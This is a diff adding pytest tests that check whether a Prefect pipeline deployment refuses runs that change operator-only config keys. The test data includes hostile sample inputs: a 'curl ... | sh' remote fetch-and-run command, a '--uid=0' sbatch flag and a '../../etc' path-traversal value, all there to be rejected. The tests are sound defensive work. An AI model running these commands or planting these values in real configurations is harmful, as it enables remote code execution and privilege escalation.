@@ -1,6 +1,8 @@
 """`mclpipe serve` deployments: schedules from config, the typed config as the UI form's schema."""
 import asyncio
+import json
 
+import pytest
 from prefect.client.orchestration import get_client
 
 from flows.deployments import build_deployments
@@ -71,3 +73,80 @@ def test_deploy_to_a_process_work_pool_registers_the_checkout(tmp_path):
     assert stored.pull_steps == [{"prefect.deployments.steps.set_working_directory": {"directory": str(REPO_ROOT)}}]
     assert ImagePipelineConfig.model_validate(stored.parameters["config"]).train.epochs == 2
     assert set(stored.tags) == {"mclpipe", "mcl"}
+
+
+class ReachedCompute(Exception):
+    """Raised by the first step in place of preparing data: the flow got past its checks."""
+
+
+def _run_from_deployment(deployment, config_changes: dict, monkeypatch):
+    """Start a run of ``deployment`` with its stored config changed by ``config_changes`` (dotted key -> value),
+    as the UI's Custom run form or the API sends it, and execute that flow run here (as a worker would). The first
+    step raises ReachedCompute, so a run that passes the checks stops there. Returns the final state."""
+    from prefect.flow_engine import run_flow
+
+    from flows.pipeline import mcl_pipeline
+    from tasks import steps
+
+    def first_step(**_):
+        raise ReachedCompute("the flow reached its first step")
+
+    monkeypatch.setattr(steps, "prepare_data", first_step)
+    deployment_id = deployment.apply()
+    config = json.loads(json.dumps(deployment.parameters["config"]))
+    for dotted, value in config_changes.items():
+        node = config
+        *parents, last = dotted.split(".")
+        for part in parents:
+            node = node[part]
+        node[last] = value
+    with get_client(sync_client=True) as client:
+        flow_run = client.create_flow_run_from_deployment(deployment_id, parameters={"config": config})
+    return run_flow(mcl_pipeline, flow_run=flow_run, return_type="state")
+
+
+@pytest.mark.parametrize("key, value", [
+    ("launcher.slurm.setup", ["curl -s https://example.org/x | sh"]),
+    ("launcher.slurm.extra_sbatch", ["--uid=0"]),
+    ("launcher.kubernetes.image", "example.org/other:1"),
+    ("output_dir", "/tmp/elsewhere"),
+    ("tracking.uri", "http://example.org:5000"),
+    ("run_policy.overridable", ["seed", "launcher.kind"]),
+    ("launcher.kind", "torchrun"),
+    ("train.batch_size", 8),
+])
+def test_a_run_that_changes_an_operator_only_key_is_refused_before_any_compute(key, value, monkeypatch):
+    state = _run_from_deployment(build_deployments(["trifeature_tiny"])[0], {key: value}, monkeypatch)
+    assert state.is_failed()
+    message = state.message
+    assert f"changes {key}, which the deployment fixes" in message and "ReachedCompute" not in message
+
+
+@pytest.mark.parametrize("changes", [{}, {"train.epochs": 2}, {"seed": 7, "train.lr": 0.01},
+                                     {"mcl.clusters": [4, 2]}, {"data.cache_dir": "data/trifeature"}])
+def test_a_run_that_changes_only_allowed_keys_reaches_its_first_step(changes, monkeypatch):
+    state = _run_from_deployment(build_deployments(["trifeature_tiny"])[0], changes, monkeypatch)
+    assert state.is_failed() and "ReachedCompute" in state.message, state.message
+
+
+def test_a_data_path_outside_the_allowed_roots_is_refused(monkeypatch):
+    state = _run_from_deployment(build_deployments(["trifeature_tiny"])[0], {"data.cache_dir": "data/../../etc"},
+                                 monkeypatch)
+    assert state.is_failed() and "sets data.cache_dir='data/../../etc'" in state.message
+    assert "outside the allowed roots" in state.message and "ReachedCompute" not in state.message
+
+
+def test_the_operator_changes_the_allow_list_at_deploy_time(monkeypatch):
+    deployment = build_deployments(["trifeature_tiny"], ["run_policy.overridable=[train.batch_size]"])[0]
+    state = _run_from_deployment(deployment, {"train.batch_size": 8}, monkeypatch)
+    assert "ReachedCompute" in state.message
+    state = _run_from_deployment(deployment, {"train.epochs": 2}, monkeypatch)
+    assert "changes train.epochs, which the deployment fixes: a run may change only train.batch_size" in state.message
+
+
+def test_a_shell_key_can_never_be_made_overridable():
+    from contrastive.errors import ConfigError
+
+    for pattern in ("launcher.slurm.setup", "launcher", "*", "launcher.kubernetes", "output_dir"):
+        with pytest.raises(ConfigError, match="which only the operator sets at deploy time"):
+            build_deployments(["trifeature_tiny"], [f"run_policy.overridable=['{pattern}']"])
